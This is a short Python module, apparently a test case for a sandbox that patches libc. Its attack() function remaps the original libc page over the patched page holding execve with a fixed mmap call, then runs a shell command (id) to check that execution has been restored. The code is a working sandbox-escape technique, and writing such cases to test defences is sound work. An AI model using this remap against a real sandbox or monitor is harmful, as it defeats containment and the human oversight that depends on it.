"""The pristine page of libc's file is mapped over the patched one."""

import ctypes
import os

from libc_file import address_of, errno_or, libc_path, library_of, page_of


def attack(event):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_uint64
    at = page_of(address_of("execve"))
    offset = at - library_of(address_of("abs"))[1]
    file = os.open(libc_path(), os.O_RDONLY)
    said = errno_or(libc.mmap(ctypes.c_void_p(at), 8192, 5, 0x12, file, ctypes.c_long(offset)))
    if said == "done":
        os.system("id >%s" % event["out"])
    return said
